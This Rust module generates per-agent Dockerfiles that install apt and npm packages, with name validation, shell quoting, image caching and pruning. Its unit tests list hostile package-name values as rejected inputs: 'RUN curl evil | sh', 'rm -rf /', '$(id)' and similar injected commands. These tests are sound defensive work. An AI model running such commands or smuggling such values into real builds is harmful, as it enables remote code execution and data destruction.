//! Per-agent images (docs/containers.md#agent-images): an agent whose manifest lists `packages.apt`
//! or `packages.npm` runs in its own image, a generated Dockerfile `FROM` the agent's base image
//! that installs them. The image is tagged per install and agent
//! (`nanoclaw-agent-<slug>-<agent>:<digest12>`) and labelled with the digest of its inputs (the
//! base image's id and the Dockerfile, which holds the package lists), so an unchanged list
//! never rebuilds; old per-agent images of one install are pruned.
//!
//! Package names are interpolated into the Dockerfile, so they are checked here against the
//! Debian and npm name grammars (the manifest validator uses the same checks) and quoted; a
//! name that fails can never reach a build. This module talks to Docker only: recording a
//! failure for `status` and choosing the image an agent keeps after one is `ops::agent_images`.

use std::collections::{BTreeSet, HashMap};
use std::path::Path;
use std::time::Duration;

use bollard::query_parameters::{
    BuildImageOptions, ListContainersOptions, ListImagesOptions, RemoveImageOptions,
};
use futures_util::StreamExt;
use sha2::{Digest, Sha256};

use super::build::{BuildProgress, append_file, read_build_info, read_ca_bundle};
use super::image::{HOST_CA_BUNDLE, hex};
use super::labels::{LABEL_AGENT, LABEL_INSTALL};
use super::{ContainerError, Docker, is_not_found};
use crate::state::Packages;

/// Repository prefix of per-agent images: `nanoclaw-agent-<slug>-<agent>`.
pub const REPOSITORY_PREFIX: &str = "nanoclaw-agent-";
/// Image label: SHA-256 of the per-agent image's inputs ([`AgentImage::digest`]).
pub const LABEL_INPUTS_DIGEST: &str = "nanoclaw.agent-inputs-sha256";
/// Image label: the base image the per-agent image was built from (its tag).
pub const LABEL_BASE: &str = "nanoclaw.agent-base";
/// Longest a per-agent build may take (docs/containers.md#agent-images: 15 minutes).
pub const BUILD_TIMEOUT: Duration = Duration::from_secs(15 * 60);
/// Where npm packages are installed in a per-agent image (its `bin/` is put on `PATH`).
pub const NPM_PREFIX: &str = "/opt/nanoclaw-packages";

/// One agent's image, decided: what it is built from and what it installs.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AgentImage {
    /// `nanoclaw-agent-<slug>-<agent>:<digest12>`.
    pub tag: String,
    /// The generated Dockerfile.
    pub dockerfile: String,
    /// SHA-256 (hex) of the base image's id and the Dockerfile ([`LABEL_INPUTS_DIGEST`]).
    pub digest: String,
}

/// The facts about the base image a per-agent image needs.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BaseImage {
    /// The tag the Dockerfile starts `FROM`.
    pub tag: String,
    /// Its image id (`sha256:…`): a rebuilt base changes the digest.
    pub id: String,
    /// Its `USER` (empty: root), restored after the packages are installed.
    pub user: String,
}

/// What [`ensure`] did.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Ensured {
    pub tag: String,
    /// False when an image with the same inputs was there (nothing was built).
    pub built: bool,
}

/// Why a per-agent image could not be provided; the agent keeps its previous image.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("agent `{agent}`: building its image `{tag}` failed: {message}")]
pub struct BuildFailure {
    pub agent: String,
    /// The tag the build would have made (empty when it failed before deciding one).
    pub tag: String,
    pub message: String,
}

/// Checks an apt package: Debian's name grammar (lower-case letters, digits, `+`, `-`, `.`,
/// at least two characters, starting alphanumeric) and an optional `=version` (Debian's
/// version grammar: digits first, then letters, digits, `.+~:-`).
pub fn check_apt(spec: &str) -> Result<(), String> {
    let (name, version) = match spec.split_once('=') {
        Some((name, version)) => (name, Some(version)),
        None => (spec, None),
    };
    let name_ok = name.len() >= 2
        && name.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+-.".contains(c));
    if !name_ok {
        return Err(format!(
            "`{}` is not a Debian package name (lower-case letters, digits, `+`, `-`, `.`; at least two characters, starting with a letter or digit)",
            name.escape_debug()
        ));
    }
    if let Some(version) = version {
        let version_ok = version.starts_with(|c: char| c.is_ascii_digit())
            && version
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ".+~:-".contains(c));
        if !version_ok {
            return Err(format!(
                "`{}` is not a Debian version (a digit first, then letters, digits, `.+~:-`)",
                version.escape_debug()
            ));
        }
    }
    Ok(())
}

/// Checks an npm package: npm's name grammar (optionally `@scope/`, lower-case URL-safe
/// characters, not starting with `.` or `_`, at most 214 characters) and an optional
/// `@version` (a version, range or dist-tag: letters, digits, `.+~^*-`).
pub fn check_npm(spec: &str) -> Result<(), String> {
    let (name, version) = split_npm(spec);
    let part_ok = |part: &str| {
        !part.is_empty()
            && !part.starts_with(['.', '_'])
            && part
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "-._~".contains(c))
    };
    let name_ok = name.len() <= 214
        && match name.strip_prefix('@') {
            Some(scoped) => scoped
                .split_once('/')
                .is_some_and(|(scope, bare)| part_ok(scope) && part_ok(bare)),
            None => part_ok(name),
        };
    if !name_ok {
        return Err(format!(
            "`{}` is not an npm package name (optionally `@scope/`, then lower-case letters, digits, `-._~`, not starting with `.` or `_`)",
            name.escape_debug()
        ));
    }
    if let Some(version) = version {
        let version_ok = !version.is_empty()
            && version
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ".+~^*-".contains(c));
        if !version_ok {
            return Err(format!(
                "`{}` is not an npm version, range or tag (letters, digits, `.+~^*-`)",
                version.escape_debug()
            ));
        }
    }
    Ok(())
}

/// `name[@version]` → (name, version); a scope's leading `@` is part of the name.
fn split_npm(spec: &str) -> (&str, Option<&str>) {
    let search_from = usize::from(spec.starts_with('@'));
    match spec[search_from..].find('@') {
        Some(at) => {
            let at = at + search_from;
            (&spec[..at], Some(&spec[at + 1..]))
        }
        None => (spec, None),
    }
}

/// Checks every package and the base facts that go into the Dockerfile; the first problem.
fn check_inputs(base: &BaseImage, packages: &Packages) -> Result<(), String> {
    for spec in &packages.apt {
        check_apt(spec).map_err(|why| format!("packages.apt: {why}"))?;
    }
    for spec in &packages.npm {
        check_npm(spec).map_err(|why| format!("packages.npm: {why}"))?;
    }
    let reference_ok = |text: &str| {
        !text.is_empty()
            && text
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "._/:@-".contains(c))
    };
    if !reference_ok(&base.tag) {
        return Err(format!(
            "base image `{}` is not an image reference",
            base.tag
        ));
    }
    if !base.user.is_empty() && !reference_ok(&base.user) {
        return Err(format!("base image user `{}` is not a user", base.user));
    }
    Ok(())
}

impl AgentImage {
    /// Decides the image of `agent` of install `slug` (pure). Refuses names outside the
    /// grammars ([`check_apt`], [`check_npm`]) and a base reference or user that could break
    /// out of its Dockerfile line.
    pub fn decide(
        slug: &str,
        agent: &str,
        base: &BaseImage,
        packages: &Packages,
    ) -> Result<AgentImage, String> {
        check_inputs(base, packages)?;
        let dockerfile = dockerfile(agent, base, packages);
        let mut hasher = Sha256::new();
        for part in [base.id.as_str(), dockerfile.as_str()] {
            hasher.update(part.as_bytes());
            hasher.update([0]);
        }
        let digest = hex(&hasher.finalize());
        let tag = format!("{}:{}", repository(slug, agent), &digest[..12]);
        Ok(AgentImage {
            tag,
            dockerfile,
            digest,
        })
    }

    /// The labels of the build.
    pub fn labels(&self, slug: &str, agent: &str, base: &BaseImage) -> HashMap<String, String> {
        HashMap::from([
            (LABEL_INPUTS_DIGEST.to_string(), self.digest.clone()),
            (LABEL_INSTALL.to_string(), slug.to_string()),
            (LABEL_AGENT.to_string(), agent.to_string()),
            (LABEL_BASE.to_string(), base.tag.clone()),
        ])
    }
}

/// `nanoclaw-agent-<slug>-<agent>`.
pub fn repository(slug: &str, agent: &str) -> String {
    format!("{REPOSITORY_PREFIX}{slug}-{agent}")
}

/// `'text'` for `sh` (the names are already checked; quoting is the second fence).
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// The generated Dockerfile: a `system` stage (the base plus the apt packages, installed with
/// `--no-install-recommends` and the lists cleaned), an `npm` stage on top of it when npm
/// packages are listed (the host's CA bundle is used there only, like the production recipe),
/// and the final image: `system` plus the npm prefix, back to the base's user.
///
/// npm runs no dependency's install scripts (`--ignore-scripts`); only the listed packages'
/// own scripts run, by `npm rebuild` naming them: the only-built-dependencies rule of v2's
/// pnpm install (docs/containers.md#agent-images).
pub fn dockerfile(agent: &str, base: &BaseImage, packages: &Packages) -> String {
    let mut text = format!(
        "# Generated by nanoclaw for agent `{agent}`: its packages on `{}`. Do not edit.\n",
        base.tag
    );
    text.push_str(&format!("FROM {} AS system\nUSER root\n", base.tag));
    if !packages.apt.is_empty() {
        let names: Vec<String> = packages.apt.iter().map(|name| quoted(name)).collect();
        text.push_str(&format!(
            "RUN export DEBIAN_FRONTEND=noninteractive \\\n    && apt-get update \\\n    && apt-get install -y --no-install-recommends {} \\\n    && apt-get clean \\\n    && rm -rf /var/lib/apt/lists/* /var/cache/apt/*.bin /var/log/apt /var/log/dpkg.log\n",
            names.join(" ")
        ));
    }
    let user = if base.user.is_empty() {
        "root"
    } else {
        &base.user
    };
    if packages.npm.is_empty() {
        text.push_str(&format!("USER {user}\n"));
        return text;
    }
    let specs: Vec<String> = packages.npm.iter().map(|spec| quoted(spec)).collect();
    let names: Vec<String> = packages
        .npm
        .iter()
        .map(|spec| quoted(split_npm(spec).0))
        .collect();
    text.push_str(&format!(
        "FROM system AS npm\nCOPY build-ca.crt /build/ca.crt\nRUN if [ -s /build/ca.crt ]; then \\\n        export npm_config_cafile=/build/ca.crt NODE_EXTRA_CA_CERTS=/build/ca.crt; \\\n    fi \\\n    && npm install --global --prefix {NPM_PREFIX} --cache /tmp/npm-cache --ignore-scripts \\\n        --no-fund --no-audit --no-update-notifier {} \\\n    && npm rebuild --global --prefix {NPM_PREFIX} --cache /tmp/npm-cache {} \\\n    && rm -rf /tmp/npm-cache\n",
        specs.join(" "),
        names.join(" ")
    ));
    text.push_str(&format!(
        "FROM system\nCOPY --from=npm {NPM_PREFIX} {NPM_PREFIX}\nENV PATH={NPM_PREFIX}/bin:$PATH\nUSER {user}\n"
    ));
    text
}

/// The base facts of `tag`; `None` when there is no such image.
pub async fn base_image(docker: &Docker, tag: &str) -> Result<Option<BaseImage>, ContainerError> {
    match docker.client.inspect_image(tag).await {
        Ok(image) => Ok(Some(BaseImage {
            tag: tag.to_string(),
            id: image.id.unwrap_or_default(),
            user: image
                .config
                .and_then(|config| config.user)
                .unwrap_or_default(),
        })),
        Err(err) if is_not_found(&err) => Ok(None),
        Err(err) => Err(err.into()),
    }
}

/// The per-agent image `agent` of install `slug` should run for `packages` on `base_tag` now
/// (its tag and inputs digest), without building anything: one inspect of the base image.
/// The daemon compares its tag with the one the central DB records to know whether to build.
pub async fn desired(
    docker: &Docker,
    slug: &str,
    agent: &str,
    base_tag: &str,
    packages: &Packages,
) -> Result<(BaseImage, AgentImage), BuildFailure> {
    let fail = |message: String| BuildFailure {
        agent: agent.to_string(),
        tag: String::new(),
        message,
    };
    let base = match base_image(docker, base_tag).await {
        Ok(Some(base)) => base,
        Ok(None) => return Err(fail(format!("its base image `{base_tag}` is not here"))),
        Err(err) => return Err(fail(err.to_string())),
    };
    let image = AgentImage::decide(slug, agent, &base, packages).map_err(fail)?;
    Ok((base, image))
}

/// Makes sure `agent`'s per-agent image of install `slug` exists for `packages` on
/// `base_tag`: reused when an image with the same inputs digest is there, else built (output
/// streamed to `progress` and to the logs; at most [`BUILD_TIMEOUT`]). On failure nothing is
/// tagged: the agent's previous image stays as it was.
pub async fn ensure(
    docker: &Docker,
    slug: &str,
    agent: &str,
    base_tag: &str,
    packages: &Packages,
    mut progress: impl FnMut(BuildProgress),
) -> Result<Ensured, BuildFailure> {
    let fail = |tag: &str, message: String| BuildFailure {
        agent: agent.to_string(),
        tag: tag.to_string(),
        message,
    };
    let (base, image) = desired(docker, slug, agent, base_tag, packages).await?;
    let labels = super::image::image_labels(docker, &image.tag)
        .await
        .map_err(|err| fail(&image.tag, err.to_string()))?;
    if labels.is_some_and(|labels| labels.get(LABEL_INPUTS_DIGEST) == Some(&image.digest)) {
        tracing::debug!(agent, image = %image.tag, "per-agent image is current");
        return Ok(Ensured {
            tag: image.tag,
            built: false,
        });
    }
    tracing::info!(agent, image = %image.tag, base = %base.tag, "building the per-agent image");
    let build = build(docker, slug, agent, &base, &image, &mut progress);
    match tokio::time::timeout(BUILD_TIMEOUT, build).await {
        Ok(Ok(())) => {
            tracing::info!(agent, image = %image.tag, "per-agent image built");
            Ok(Ensured {
                tag: image.tag,
                built: true,
            })
        }
        Ok(Err(err)) => Err(fail(&image.tag, err.to_string())),
        Err(_) => Err(fail(
            &image.tag,
            format!(
                "the build took longer than {} minutes and was stopped",
                BUILD_TIMEOUT.as_secs() / 60
            ),
        )),
    }
}

/// One build through the daemon; every output line goes to `progress` (the caller shows or
/// logs it: the CLI's progress display, the daemon's log with the agent's name).
async fn build(
    docker: &Docker,
    slug: &str,
    agent: &str,
    base: &BaseImage,
    image: &AgentImage,
    progress: &mut impl FnMut(BuildProgress),
) -> Result<(), ContainerError> {
    let ca_bundle = read_ca_bundle(Path::new(HOST_CA_BUNDLE))?;
    let context = context(&image.dockerfile, &ca_bundle).map_err(|source| ContainerError::Io {
        path: "<build context>".into(),
        source,
    })?;
    let options = BuildImageOptions {
        dockerfile: "Dockerfile".to_string(),
        t: Some(image.tag.clone()),
        rm: true,
        forcerm: true,
        labels: Some(image.labels(slug, agent, base)),
        ..Default::default()
    };
    let mut stream =
        docker
            .client
            .build_image(options, None, Some(bollard::body_full(context.into())));
    let mut step = String::from("the start of the build");
    let mut report = |event: BuildProgress| progress(event);
    while let Some(item) = stream.next().await {
        let info = item.map_err(|err| match err {
            bollard::errors::Error::DockerStreamError { error } => ContainerError::Build {
                step: step.clone(),
                message: error.trim().to_string(),
            },
            other => ContainerError::Docker(other),
        })?;
        read_build_info(info, &mut step, &mut report)?;
    }
    Ok(())
}

/// The build context: the Dockerfile and the host's CA bundle (`build-ca.crt`, 0600, possibly
/// empty; only the `npm` stage copies it).
fn context(dockerfile: &str, ca_bundle: &[u8]) -> std::io::Result<Vec<u8>> {
    let mut tar = tar::Builder::new(Vec::new());
    append_file(&mut tar, "Dockerfile", dockerfile.as_bytes(), 0o644)?;
    append_file(&mut tar, "build-ca.crt", ca_bundle, 0o600)?;
    tar.into_inner()
}

/// Removes this install's per-agent images except those tagged in `keep` and those any
/// container (running or not) uses; never another install's (selected by the
/// `nanoclaw.install` label). Returns the tags removed.
pub async fn prune(
    docker: &Docker,
    slug: &str,
    keep: &BTreeSet<String>,
) -> Result<Vec<String>, ContainerError> {
    let options = ListImagesOptions {
        filters: Some(HashMap::from([(
            "label".to_string(),
            vec![
                format!("{LABEL_INSTALL}={slug}"),
                LABEL_INPUTS_DIGEST.to_string(),
            ],
        )])),
        ..Default::default()
    };
    let images = docker.client.list_images(Some(options)).await?;
    let used: BTreeSet<String> = docker
        .client
        .list_containers(Some(ListContainersOptions {
            all: true,
            ..Default::default()
        }))
        .await?
        .into_iter()
        .filter_map(|container| container.image_id)
        .collect();
    let mut removed = Vec::new();
    for image in images {
        if image.labels.get(LABEL_INSTALL).map(String::as_str) != Some(slug)
            || used.contains(&image.id)
            || image.repo_tags.iter().any(|tag| keep.contains(tag))
        {
            continue;
        }
        for tag in &image.repo_tags {
            match docker
                .client
                .remove_image(tag, None::<RemoveImageOptions>, None)
                .await
            {
                Ok(_) => {
                    tracing::info!(image = %tag, "pruned an old per-agent image");
                    removed.push(tag.clone());
                }
                Err(err) if is_not_found(&err) => {}
                Err(err) => {
                    tracing::warn!(image = %tag, error = %err, "cannot prune a per-agent image")
                }
            }
        }
    }
    Ok(removed)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn packages(apt: &[&str], npm: &[&str]) -> Packages {
        Packages {
            apt: apt.iter().map(ToString::to_string).collect(),
            npm: npm.iter().map(ToString::to_string).collect(),
        }
    }

    fn base() -> BaseImage {
        BaseImage {
            tag: "nanoclaw-agent:production".into(),
            id: "sha256:0123".into(),
            user: "10001:10001".into(),
        }
    }

    #[test]
    fn apt_names_follow_debian_grammar_with_an_optional_version() {
        for good in [
            "jq",
            "g++",
            "libc6-dev",
            "python3.11",
            "jq=1.6-2.1",
            "tzdata=2024a-0+deb12u1",
            "x1=1:2.3~rc1",
        ] {
            assert_eq!(check_apt(good), Ok(()), "{good}");
        }
        for bad in [
            "",
            "j",
            "Jq",
            "-jq",
            "jq_x",
            "jq;rm -rf /",
            "jq && curl x",
            "jq\nRUN id",
            "$(id)",
            "jq=",
            "jq=a1",
            "jq=1 2",
            "'jq'",
            "jq`id`",
        ] {
            assert!(check_apt(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn npm_names_follow_npm_grammar_with_an_optional_version() {
        for good in [
            "typescript",
            "@scope/pkg",
            "pkg@1.2.3",
            "@scope/pkg@^1.2",
            "pkg@latest",
            "a.b_c~d",
            "pkg@1.x",
        ] {
            assert_eq!(check_npm(good), Ok(()), "{good}");
        }
        for bad in [
            "",
            "Pkg",
            ".hidden",
            "_under",
            "@scope",
            "@/pkg",
            "pkg;id",
            "pkg@",
            "pkg@1 || 2",
            "pkg@$(id)",
            "pkg\nRUN id",
            "@s/p/q",
            "pkg@>1",
            "a'b",
        ] {
            assert!(check_npm(bad).is_err(), "{bad:?}");
        }
        assert!(check_npm(&"a".repeat(215)).is_err());
    }

    #[test]
    fn hostile_names_never_reach_a_dockerfile() {
        let hostile = [
            packages(&["jq\nRUN curl evil | sh"], &[]),
            packages(&["jq' && id && '"], &[]),
            packages(&[], &["x\nUSER root"]),
            packages(&[], &["pkg@1;id"]),
        ];
        for list in hostile {
            let refused = AgentImage::decide("ab12", "andy", &base(), &list).unwrap_err();
            assert!(refused.starts_with("packages."), "{refused}");
        }
        let evil_base = BaseImage {
            tag: "img\nRUN id".into(),
            ..base()
        };
        assert!(AgentImage::decide("ab12", "andy", &evil_base, &packages(&["jq"], &[])).is_err());
    }

    #[test]
    fn apt_only_dockerfile_installs_without_recommends_and_cleans_the_lists() {
        let text = dockerfile("andy", &base(), &packages(&["jq", "tree=2.1.0-1"], &[]));
        expect_test::expect![[r#"
            # Generated by nanoclaw for agent `andy`: its packages on `nanoclaw-agent:production`. Do not edit.
            FROM nanoclaw-agent:production AS system
            USER root
            RUN export DEBIAN_FRONTEND=noninteractive \
                && apt-get update \
                && apt-get install -y --no-install-recommends 'jq' 'tree=2.1.0-1' \
                && apt-get clean \
                && rm -rf /var/lib/apt/lists/* /var/cache/apt/*.bin /var/log/apt /var/log/dpkg.log
            USER 10001:10001
        "#]]
        .assert_eq(&text);
    }

    #[test]
    fn npm_packages_run_only_their_own_install_scripts_and_keep_the_ca_out_of_the_image() {
        let text = dockerfile(
            "andy",
            &BaseImage {
                user: String::new(),
                ..base()
            },
            &packages(&[], &["@scope/tool@1.2.3", "left-pad"]),
        );
        expect_test::expect![[r#"
            # Generated by nanoclaw for agent `andy`: its packages on `nanoclaw-agent:production`. Do not edit.
            FROM nanoclaw-agent:production AS system
            USER root
            FROM system AS npm
            COPY build-ca.crt /build/ca.crt
            RUN if [ -s /build/ca.crt ]; then \
                    export npm_config_cafile=/build/ca.crt NODE_EXTRA_CA_CERTS=/build/ca.crt; \
                fi \
                && npm install --global --prefix /opt/nanoclaw-packages --cache /tmp/npm-cache --ignore-scripts \
                    --no-fund --no-audit --no-update-notifier '@scope/tool@1.2.3' 'left-pad' \
                && npm rebuild --global --prefix /opt/nanoclaw-packages --cache /tmp/npm-cache '@scope/tool' 'left-pad' \
                && rm -rf /tmp/npm-cache
            FROM system
            COPY --from=npm /opt/nanoclaw-packages /opt/nanoclaw-packages
            ENV PATH=/opt/nanoclaw-packages/bin:$PATH
            USER root
        "#]]
        .assert_eq(&text);
    }

    #[test]
    fn the_tag_names_install_and_agent_and_the_digest_follows_every_input() {
        let jq = packages(&["jq"], &[]);
        let image = AgentImage::decide("ab12cd34", "andy", &base(), &jq).unwrap();
        assert_eq!(
            image.tag,
            format!("nanoclaw-agent-ab12cd34-andy:{}", &image.digest[..12])
        );
        assert_eq!(
            image,
            AgentImage::decide("ab12cd34", "andy", &base(), &jq).unwrap(),
            "deterministic"
        );
        let rebuilt_base = BaseImage {
            id: "sha256:4567".into(),
            ..base()
        };
        let others = [
            AgentImage::decide("ab12cd34", "andy", &rebuilt_base, &jq).unwrap(),
            AgentImage::decide("ab12cd34", "andy", &base(), &packages(&["jq", "tree"], &[]))
                .unwrap(),
            AgentImage::decide("ab12cd34", "andy", &base(), &packages(&[], &["jq"])).unwrap(),
        ];
        for other in others {
            assert_ne!(other.digest, image.digest);
        }
        let labels = image.labels("ab12cd34", "andy", &base());
        assert_eq!(labels[LABEL_INSTALL], "ab12cd34");
        assert_eq!(labels[LABEL_INPUTS_DIGEST], image.digest);
    }

    #[test]
    fn scoped_npm_names_split_at_the_version() {
        assert_eq!(split_npm("@s/p@1"), ("@s/p", Some("1")));
        assert_eq!(split_npm("@s/p"), ("@s/p", None));
        assert_eq!(split_npm("p@1"), ("p", Some("1")));
    }
}
